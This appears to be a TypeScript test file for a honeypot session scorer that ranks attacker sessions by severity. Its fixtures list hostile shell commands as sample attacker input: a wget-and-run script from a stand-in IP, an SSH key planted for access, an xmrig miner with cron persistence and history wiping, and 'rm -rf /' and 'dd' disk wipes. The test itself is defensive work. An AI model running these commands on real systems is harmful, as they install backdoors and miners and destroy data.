import { STAGES, sessionScoreSchema, TACTICS } from '@cerberusmesh/contracts';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { foldConclusion, isConclusionFolded } from '../../sessions/fold-conclusion.ts';
import { makeEvent } from '../../sessions/make-event.ts';
import { createAttackMapper } from '../attack-mapper/attack-mapper.ts';
import type { DetectionFacts, SessionContext, SessionFacts } from '../session-facts.ts';
import { scoreSession } from './score-session.ts';
import { addDetection, emptyFacts, factsAfter, type Story, testEvent, testId } from './test-facts.ts';

const mapper = createAttackMapper();
const at = '2026-05-01T10:00:00.000Z';
const discovery = ['uname -a', 'cat /proc/cpuinfo', 'free -m', 'w'];
const downloadAndRun = ['cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh; rm -f x.sh'];
const plantKey = ['cd ~ && mkdir .ssh && echo "ssh-rsa AAAAB3" >> .ssh/authorized_keys'];
const mine = [
  ...discovery,
  'wget http://192.0.2.9/xmrig; ./xmrig -o stratum+tcp://x:1',
  'echo "* * * * * /tmp/x" | crontab -',
  'history -c',
];

describe('the session score', () => {
  it.each<[string, Story, number, number, number]>([
    ['a connection without a word', {}, 0.02, 0.1, 1],
    ['a few failed credentials', { failedCredentials: 3 }, 0.2, 0.35, 2],
    ['a login and a look around', { login: true, commands: discovery }, 0.4, 0.6, 3],
    ['a download that is run', { login: true, commands: downloadAndRun, downloads: 1 }, 0.7, 0.85, 4],
    ['a planted key', { login: true, commands: plantKey }, 0.7, 0.85, 4],
    ['a miner with persistence and covered tracks', { login: true, commands: mine, downloads: 1 }, 0.9, 1, 5],
    [
      'destruction',
      { login: true, commands: ['uname -a', 'rm -rf / --no-preserve-root', 'dd if=/dev/zero of=/dev/sda'] },
      0.9,
      1,
      5,
    ],
  ])('of %s is in its band', (_, story, least, most, level) => {
    const { score, level: found } = sessionScoreSchema.parse(scoreSession(factsAfter(mapper, story)));
    expect({ score: score >= least && score <= most ? 'in band' : score, level: found }).toEqual({
      score: 'in band',
      level,
    });
  });

  it('says what it is made of', () => {
    expect(scoreSession({ ...emptyFacts(), authenticated: true })).toEqual({
      score: 1 - 0.95 * 0.8,
      level: 2,
      stage: 'access',
      contributions: [
        { factor: 'authenticated', weight: 0.2, reason: 'A login was accepted.' },
        { factor: 'stage', weight: 0.05, reason: 'The session reached the stage access.' },
      ],
      scoringVersion: '2026.3',
    });
  });

  it('takes up who came back, what others know and what is rare, each with its reason', () => {
    const context: SessionContext = {
      visits: 3,
      activeDays: 2,
      recognisedBy: ['public-key'],
      assessments: [{ provider: 'abuseipdb', verdict: 'malicious', maliciousness: 1 }],
      rarity: { score: 1, item: 'program zmap (0 of 900 sessions)' },
    };
    const { contributions } = scoreSession({ ...emptyFacts(), context });
    expect(contributions.map(({ factor, weight, reason }) => [factor, Number(weight.toFixed(4)), reason])).toEqual([
      ['persistence', 0.155, 'Came back: visit 3 of this source, on 2 days; a key seen before.'],
      ['rarity', 0.15, 'Hardly anyone did this before: program zmap (0 of 900 sessions).'],
      ['intelligence', 0.12, 'The source is known to abuseipdb (malicious).'],
      ['stage', 0.02, 'The session reached the stage contact.'],
    ]);
  });

  it('rests no stage on a hint', () => {
    const reached = (confidence: number) => {
      const facts = emptyFacts();
      const [seen] = mapper.mapEvent(testEvent('command.entered', 'any', { input: 'uname', channel: 'shell' }));
      if (seen !== undefined) addDetection(facts, { ...seen, stage: 'impact', confidence });
      return scoreSession({ ...facts, stage: 'contact' }).stage;
    };
    expect([reached(0.49), reached(0.5)]).toEqual(['contact', 'impact']);
  });

  it('never falls when evidence is added', () => {
    const count = fc.nat({ max: 1_000 });
    const counts = fc.record({
      failedCredentialCount: count,
      commandCount: count,
      uploadCount: count,
      downloadCount: count,
      tunnelCount: count,
      httpRequestCount: count,
    });
    const detection = fc
      .record({
        technique: fc.nat({ max: 20 }),
        tactic: fc.constantFrom(...TACTICS),
        confidence: fc.double({ min: 0, max: 1, noNaN: true }),
        stage: fc.constantFrom(...STAGES),
      })
      .map(
        ({ technique, tactic, confidence, stage }): DetectionFacts => ({
          techniqueId: `T${1_000 + technique}`,
          techniqueName: 'any',
          tactic,
          tactics: [tactic],
          confidence,
          rule: 'any',
          attackVersion: '18.1',
          stage,
          statement: null,
          evidence: [testId('any')],
          count: 1,
          firstAt: '2026-05-01T10:00:00.000Z',
          lastAt: '2026-05-01T10:00:00.000Z',
        }),
      );
    const detections = fc.array(detection, { maxLength: 12 });
    const share = fc.double({ min: 0, max: 1, noNaN: true });
    const conclusion = fc.oneof(
      fc
        .record({ visits: fc.integer({ min: 1, max: 99 }), kind: fc.constantFrom('public-key', 'artefact') })
        .map(({ visits, kind }) =>
          makeEvent('attacker.updated', {
            change: 'recognised',
            address: '192.0.2.7',
            visits,
            activeDays: visits,
            sessionCount: visits,
            firstSeenAt: at,
            lastSeenAt: null,
            knownSince: at,
            traits: [{ kind, value: 'x' }],
            linkedAddresses: [],
          }),
        ),
      fc
        .record({ provider: fc.constantFrom('a', 'b', 'c'), maliciousness: share })
        .map((data) =>
          makeEvent('source.assessed', { ...data, verdict: 'malicious', reportCount: null, tags: [], answeredAt: at }),
        ),
      share.map((score) =>
        makeEvent('rarity.found', { score, items: [{ kind: 'program', value: 'x', sessions: 0, of: 9, score }] }),
      ),
    );
    const conclusions = fc
      .array(conclusion, { maxLength: 4 })
      .map((events) => events.flatMap((event) => (isConclusionFolded(event) ? [event] : [])));
    fc.assert(
      fc.property(
        counts,
        counts,
        detections,
        detections,
        fc.boolean(),
        fc.boolean(),
        share,
        conclusions,
        conclusions,
        (base, added, before, after, wasIn, getsIn, anomaly, known, conclusions) => {
          const facts = { ...emptyFacts(), ...base, detections: before, authenticated: wasIn };
          for (const event of known) facts.context = foldConclusion(facts, event).context;
          const more = {
            ...facts,
            failedCredentialCount: base.failedCredentialCount + added.failedCredentialCount,
            commandCount: base.commandCount + added.commandCount,
            uploadCount: base.uploadCount + added.uploadCount,
            downloadCount: base.downloadCount + added.downloadCount,
            tunnelCount: base.tunnelCount + added.tunnelCount,
            httpRequestCount: base.httpRequestCount + added.httpRequestCount,
            detections: [...before, ...after],
            authenticated: wasIn || getsIn,
            anomaly,
            context: conclusions.reduce<SessionFacts>(foldConclusion, facts).context,
          };
          const lower = scoreSession(facts);
          const higher = scoreSession(more);
          // Sums in another order may differ in the last bits.
          expect(higher.score).toBeGreaterThanOrEqual(lower.score - 1e-12);
          expect(STAGES.indexOf(higher.stage)).toBeGreaterThanOrEqual(STAGES.indexOf(lower.stage));
        },
      ),
    );
  });
});
